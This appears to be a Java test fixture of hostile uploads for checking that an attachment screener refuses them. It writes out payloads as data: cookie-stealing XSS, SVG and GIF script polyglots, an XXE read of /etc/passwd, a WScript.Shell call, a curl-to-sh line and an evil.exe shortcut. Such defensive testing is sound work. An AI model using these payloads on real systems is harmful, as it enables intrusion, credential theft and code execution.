package kz.tirek.testing;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;

/** Files that try to get something past the screening, made here and nowhere stored; with what is to become of each. */
public final class HostileFiles {
    /** Stands in everything that must not come out again. */
    public static final String CANARY = "CANARY-43.2970N-68.2710E";

    /**
     * One file.
     *
     * @param what says what it tries
     * @param name as its sender calls it
     * @param refusedWith key of the refusal, or {@code null} when it is to come out clean
     */
    public record Sample(String what, String name, Supplier<byte[]> bytes, String refusedWith) {
        @Override
        public String toString() {
            return what;
        }
    }

    private HostileFiles() {}

    public static List<Sample> all() {
        var all = new ArrayList<Sample>();
        HostilePictures.add(all);
        HostileNames.add(all);
        HostileDocuments.add(all);
        HostilePdfs.add(all);
        others(all);
        return all;
    }

    /** Things that are no picture and no document, whatever they are called. */
    private static void others(List<Sample> all) {
        String html = "<!DOCTYPE html><script>alert(document.cookie)</script>";
        wrong(all, "HTML called a photo", "photo.jpg", html);
        wrong(all, "HTML behind a byte order mark", "photo.jpg", "\uFEFF" + html);
        wrong(all, "HTML with two endings", "photo.jpg.html", html);
        wrong(all, "HTML with blank lines before", "scan.pdf", "\n\n\n   " + html);
        wrong(all, "HTML before a PDF", "scan.pdf", html + "\n%PDF-1.4\n%%EOF\n");
        wrong(all, "SVG with a script", "picture.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
        wrong(all, "SVG called a PNG", "picture.png", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
        wrong(all, "a GIF that is a script too", "photo.jpg", "GIF89a/*" + "\0".repeat(20) + "*/=1;alert(1)//;");
        wrong(all, "a GIF that is HTML too", "photo.gif", "GIF89a" + html);
        wrong(all, "XML that fetches a file", "letter.docx", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
        wrong(all, "JavaScript", "invoice.pdf.js", "new ActiveXObject('WScript.Shell').Run('calc')");
        wrong(all, "a shell script", "photo.jpg", "#!/bin/sh\ncurl http://example.org|sh\n");
        wrong(all, "the scanners' test file", "photo.jpg", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
        wrong(all, "a text", "note.txt", "hello");
        wrong(all, "a web archive", "page.jpg", "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + html);
        wrong(all, "a shortcut", "photo.jpg.url", "[InternetShortcut]\r\nURL=file://host/share/evil.exe\r\n");
        add(all, "a program for Windows", "photo.jpg.exe", bytes("MZ" + "\0".repeat(100) + "This program cannot be run in DOS mode"), "attachment.wrongType");
        add(all, "a program for Linux", "photo", bytes("\u007FELF" + "\0".repeat(100)), "attachment.wrongType");
        add(all, "a compressed archive", "photos.jpg", bytes("\u001F\u008B\b" + "\0".repeat(50)), "attachment.wrongType");
        add(all, "an old Word document", "report.docx", bytes("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1" + "\0".repeat(600)), "attachment.oldOffice");
        add(all, "nothing at all", "photo.jpg", new byte[0], "attachment.empty");
        add(all, "a single byte", "photo.jpg", new byte[1], "attachment.wrongType");
        add(all, "zeros", "scan.pdf", new byte[5000], "attachment.wrongType");
        all.add(new Sample("16 MB of a photo", "photo.jpg", () -> joined(HostilePictures.jpeg(), new byte[16 * 1024 * 1024]), "attachment.tooLarge"));
        all.add(new Sample("one byte too much", "scan.pdf", () -> joined(bytes("%PDF-1.4\n"), new byte[15 * 1024 * 1024 - 8]), "attachment.tooLarge"));
    }

    private static void wrong(List<Sample> all, String what, String name, String content) {
        add(all, what, name, content.getBytes(StandardCharsets.UTF_8), "attachment.wrongType");
    }

    static void add(List<Sample> all, String what, String name, byte[] bytes, String refusedWith) {
        all.add(new Sample(what, name, () -> bytes, refusedWith));
    }

    /** A byte a letter. */
    static byte[] bytes(String latin) {
        return latin.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] joined(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }
}
